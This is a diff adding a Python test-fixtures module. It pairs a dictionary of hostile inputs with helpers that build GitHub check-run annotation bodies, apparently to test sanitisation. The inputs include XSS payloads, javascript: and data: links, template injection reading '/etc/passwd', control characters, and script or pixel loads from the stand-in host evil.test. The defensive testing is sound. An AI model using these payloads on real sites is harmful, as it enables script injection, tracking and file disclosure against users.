@@ -1,0 +1,73 @@
+"""Request bodies as `translate.payload` makes them, and texts that would like to be more than text."""
+
+from __future__ import annotations
+
+from typing import Any
+
+ATTACKS = {
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<SCRIPT SRC=//evil.test/x.js></SCRIPT >",
+    "onerror": "<img src=x onerror=alert(1)>",
+    "image": "<img src='https://evil.test/pixel.png'>",
+    "Markdown image": "![pixel](https://evil.test/pixel.png)",
+    "reference image": "![pixel][p]\n\n[p]: https://evil.test/pixel.png",
+    "javascript link": "[click](javascript:alert(1)) <a href='javascript:alert(1)'>click</a>",
+    "disguised link": "<a href=' java\tscript&colon;alert(1)'>click</a> [x](JaVaScRiPt&#58;alert(1))",
+    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=) <a href='data:text/html,x'>click</a>",
+    "file link": "[click](file:///etc/passwd) <a href='//evil.test/'>x</a> <a href='../x.html'>x</a>",
+    "handler on what is kept": "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
+    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "svg use": "<svg><use href='https://evil.test/x.svg#x'/></svg>",
+    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "style": "<style>body{display:none}@import 'https://evil.test/x.css'</style>",
+    "style attribute": "<p style='position:fixed;inset:0;background:url(https://evil.test/x)'>x</p>",
+    "iframe": "<iframe src='https://evil.test/' srcdoc='<script>alert(1)</script>'></iframe>",
+    "object and embed": "<object data='https://evil.test/x'></object><embed src='https://evil.test/x'>",
+    "form": "<form action='https://evil.test/'><input name=x autofocus onfocus=alert(1)><button>x</button></form>",
+    "base, meta and link": "<base href='https://evil.test/'><meta http-equiv=refresh content='0;url=https://evil.test/'>"
+    "<link rel=stylesheet href='https://evil.test/x.css'>",
+    "video": "<video src='https://evil.test/x' poster='https://evil.test/y'></video><audio src='https://evil.test/z'>",
+    "template": "<template><script>alert(1)</script></template><noscript><p title='</noscript><script>alert(1)'>",
+    "id and class": "<p id=annotations class='annotation failure'>x</p>",
+    "unclosed tags": "<details><summary><table><tr><td><b><a href='https://x.test",
+    "closing tags": "</pre></details></li></ol></section></main></body></html><script>alert(1)</script>",
+    "closing title": "</title></style></textarea></script><script>alert(1)</script>",
+    "comment": "<!-- --!><script>alert(1)</script> <!--",
+    "cdata and instructions": "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>",
+    "unclosed fence": "```\n<script>alert(1)</script>",
+    "back-ticks": "` `` ``` ````\n~~~\n`",
+    "attribute break": "\"' onmouseover=alert(1) x=\"'",
+    "template language": "{{ 7 * 7 }}{% include '/etc/passwd' %}{# x #}",
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#0; &#xD800;",
+    "ANSI": "\x1b[31mred\x1b[0m \x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x9b2J",
+    "NUL": "a\x00<scr\x00ipt>alert(1)</script>",
+    "control characters": "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
+    "lone surrogates": "\ud800 <\udfff>\udcff",
+    "directional overrides": "\u202egnp.exe\u2066",
+    "mentions": "@octocat #12 GH-12 pipes | a | b |",
+    "deep nesting": "> " * 500 + "<b>" * 500 + "[" * 500,
+}
+
+
+def annotation(level: str, title: str = "tests/test_a.py::test_x", **fields: Any) -> dict[str, Any]:
+    """An annotation's body; `line` stands for both lines."""
+    line = fields.pop("line", 7)
+    given = {"path": "tests/test_a.py", "message": "AssertionError: assert 1 == 2", **fields}
+    return {"start_line": line, "end_line": line, "annotation_level": level, "title": title, **given}
+
+
+def check_run(title: str = "1 failed", summary: str = "Summary.", text: str = "", **fields: Any) -> dict[str, Any]:
+    """What the bodies of a completed run add up to."""
+    return {
+        "name": "pytest (unit)",
+        "head_sha": "a1b2c3d4" * 5,
+        "external_id": "tests.yml/1/1/tests/unit",
+        "details_url": "https://github.com/o/r/actions/runs/1/job/2",
+        "status": "completed",
+        "started_at": "2026-11-23T03:49:00Z",
+        "completed_at": "2026-11-23T03:50:12Z",
+        "conclusion": "failure",
+        "actions": [{"label": "Re-run failed", "description": "Runs the failed tests again", "identifier": "failed"}],
+        "output": {"title": title, "summary": summary, "text": text},
+        **fields,
+    }
